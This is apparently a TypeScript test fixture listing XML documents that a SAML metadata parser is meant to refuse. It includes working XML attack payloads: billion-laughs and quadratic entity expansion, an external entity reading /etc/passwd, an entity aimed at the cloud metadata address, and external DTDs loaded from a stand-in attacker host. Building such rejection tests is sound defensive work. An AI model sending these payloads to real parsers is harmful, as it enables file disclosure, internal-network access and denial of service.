import { certificateText, idpMetadataText } from "./idpMetadata.js";

/** A document that is refused before anything is read of it, and what it is. */
export type Unreadable = readonly [name: string, document: string];

const base = idpMetadataText();
const prolog = `<?xml version="1.0" encoding="UTF-8"?>`;
const body = base.slice(prolog.length);
const role = `<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">`;
const roleEnd = "</md:IDPSSODescriptor>";
const early = (text: string) => base.replace(role, `${text}${role}`);
const doctype = (text: string, document = body) => `${prolog}<!DOCTYPE ${text}>${document}`;
const k1 = certificateText("k1");

/** Document types: each of them can change what the rest says, so none is read. */
const documentTypes: readonly Unreadable[] = [
  ["a document type without anything", doctype("md:EntityDescriptor")],
  ["an entity", doctype(`x [<!ENTITY a "b">]`)],
  ["an entity in the entity ID", doctype(`x [<!ENTITY a "b">]`, body.replace("exk1", "&a;"))],
  [
    "billion laughs",
    doctype(
      `x [<!ENTITY a "${"ha".repeat(50)}">${[..."bcdefghij"].map((each, index) => `<!ENTITY ${each} "${`&${"abcdefghij"[index]};`.repeat(10)}">`).join("")}]`,
      body.replace("exk1", "&j;"),
    ),
  ],
  [
    "a quadratic blow-up",
    doctype(`x [<!ENTITY a "${"A".repeat(20_000)}">]`, body.replace("exk1", "&a;".repeat(2000))),
  ],
  ["an entity of itself", doctype(`x [<!ENTITY a "&a;">]`, body.replace("exk1", "&a;"))],
  [
    "two entities of each other",
    doctype(`x [<!ENTITY a "&b;"><!ENTITY b "&a;">]`, body.replace("exk1", "&a;")),
  ],
  [
    "a file of this machine",
    doctype(`x [<!ENTITY a SYSTEM "file:///etc/passwd">]`, body.replace("exk1", "&a;")),
  ],
  [
    "an address of the inner network",
    doctype(`x [<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data">]`),
  ],
  ["a parameter entity from elsewhere", doctype(`x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]`)],
  ["an external subset", doctype(`x SYSTEM "https://evil.example/x.dtd"`)],
  ["a public external subset", doctype(`x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "https://evil.example/x.dtd"`)],
  [
    "an attribute by default",
    doctype(`x [<!ATTLIST md:SingleSignOnService Location CDATA "https://evil.example">]`),
  ],
  ["an element's content", doctype(`x [<!ELEMENT md:EntityDescriptor ANY>]`)],
  ["a notation", doctype(`x [<!NOTATION n SYSTEM "cmd.exe">]`)],
  ["a document type after a comment", `${prolog}<!-- x --><!DOCTYPE x>${body}`],
  ["a document type after a processing instruction", `${prolog}<?x y?><!DOCTYPE x>${body}`],
  ["a document type in small letters", `${prolog}<!doctype html>${body}`],
  ["a document type inside the root", early(`<!DOCTYPE x>`)],
  ["a document type after the root", `${base}<!DOCTYPE x>`],
  ["a document type behind a mark and white space", `\uFEFF<!DOCTYPE x>${body}`],
  ["an entity declared outside of a document type", early(`<!ENTITY a "b">`)],
  ["a conditional section", early(`<![INCLUDE[<x/>]]>`)],
];

/** References to what does not exist without a document type. */
const references: readonly Unreadable[] = [
  ...[
    "&nbsp;",
    "&a;",
    "&",
    "&;",
    "&#;",
    "&#x;",
    "&#xG;",
    "&#0;",
    "&#x0;",
    "&#8;",
    "&#xD800;",
    "&#xFFFE;",
    "&#x110000;",
    "&#99999999999;",
    "&AMP;",
    "&__proto__;",
    "&constructor;",
    "&#38",
    "& amp;",
  ].map((each) => [`the reference ${each} in the entity ID`, base.replace("exk1", `exk1${each}`)] as const),
  ["a bare & in a certificate", base.replace(k1.slice(0, 10), `${k1.slice(0, 10)}&`)],
];

/** Text that is no whole XML document. */
const malformed: readonly Unreadable[] = [
  ["an HTML page", `<!DOCTYPE html><html><body>Sign in</body></html>`],
  ["HTML that never closes", `<html><body><br>Sign in</body></html>`],
  ["JSON", `{"error":"not found"}`],
  ["PEM", `-----BEGIN CERTIFICATE-----\n${k1}\n-----END CERTIFICATE-----`],
  ["base64 of the document", Buffer.from(base).toString("base64")],
  ["half the document", base.slice(0, base.length / 2)],
  ["the document without its last character", base.slice(0, -1)],
  ["the document twice", base + body],
  ["two documents, with two prologs", base + base],
  ["a second root", `${base}<evil/>`],
  ["text after the root", `${base}x`],
  ["text before the root", `x${body}`],
  ["CDATA after the root", `${base}<![CDATA[x]]>`],
  ["an end tag too many", `${base}</md:EntityDescriptor>`],
  ["an end tag too few", base.replace(roleEnd, "")],
  [
    "end tags in the wrong order",
    base.replace(`${roleEnd}</md:EntityDescriptor>`, `</md:EntityDescriptor>${roleEnd}`),
  ],
  ["an end tag in other letters", base.replace(roleEnd, "</md:idpssodescriptor>")],
  ["an attribute without quotes", base.replace(/entityID="([^"]*)"/, "entityID=$1")],
  ["an attribute without a value", base.replace(/entityID="([^"]*)"/, "entityID")],
  ["an attribute with < in it", base.replace("exk1", "<exk1")],
  ["an attribute twice", base.replace("entityID=", `entityID="https://evil.example" entityID=`)],
  [
    "an attribute twice, under two prefixes of one namespace",
    base.replace(
      "<md:EntityDescriptor ",
      `<md:EntityDescriptor xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2" `,
    ),
  ],
  ["a namespace declared twice", base.replace("xmlns:md=", `xmlns:md="urn:evil" xmlns:md=`)],
  ["attributes without a space between them", base.replace(`" xmlns:md`, `"xmlns:md`)],
  ["a comment with -- in it", early("<!-- a -- b -->")],
  ["a comment that ends with --->", early("<!-- a --->")],
  ["a comment that never ends", early("<!-- a")],
  ["CDATA that never ends", early("<![CDATA[ a")],
  ["]]> that ends nothing", early("]]>")],
  ["a processing instruction that never ends", early("<?x ")],
  ["a second prolog inside", early(prolog)],
  ["a processing instruction called XML", early(`<?XML version="1.0"?>`)],
  ["a prolog after a comment", `<!-- x -->${base}`],
  ["a prolog without a version", `<?xml encoding="UTF-8"?>${body}`],
  ["a prolog with things in the wrong order", `<?xml encoding="UTF-8" version="1.0"?>${body}`],
  ["XML 2.0", `<?xml version="2.0"?>${body}`],
  ["a name that begins with a digit", early("<1x/>")],
  ["a name with two colons", early("<a:b:c/>")],
  ["a name that is a colon", early("<:/>")],
  ["a space before a name", early("< x/>")],
  ["an undeclared prefix of an element", early("<evil:x/>")],
  ["an undeclared prefix of an attribute", early(`<x evil:y="1"/>`)],
  ["a prefix that is taken back", early(`<x xmlns:md=""/>`)],
  ["the prefix xml for something else", early(`<x xmlns:xml="urn:x"/>`)],
  ["the prefix xmlns declared", early(`<x xmlns:xmlns="urn:x"/>`)],
  ["another prefix for XML's own namespace", early(`<x xmlns:y="http://www.w3.org/XML/1998/namespace"/>`)],
  ["51 levels in the root", early(nested(51))],
  ["3,000 levels", early(nested(3000))],
  ["9,000 levels that never end", early("<x>".repeat(9000))],
  ...[
    "\u0000",
    "\u0001",
    "\u0008",
    "\u000b",
    "\u000c",
    "\u001b",
    "\u001f",
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udc00",
    "\udc00\ud800",
  ].flatMap((each) => {
    const shown = [...each]
      .map((unit) => `U+${unit.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}`)
      .join(" ");
    return [
      [`${shown} in an attribute`, base.replace("exk1", `exk1${each}`)],
      [`${shown} in a comment`, early(`<!--${each}-->`)],
    ] as const;
  }),
];

/** Everything that is no whole XML document, or has more in it than elements, attributes and text. */
export const unreadableDocuments: readonly Unreadable[] = [...documentTypes, ...references, ...malformed];

/** Elements in each other. */
export function nested(levels: number): string {
  return `${"<x>".repeat(levels)}${"</x>".repeat(levels)}`;
}
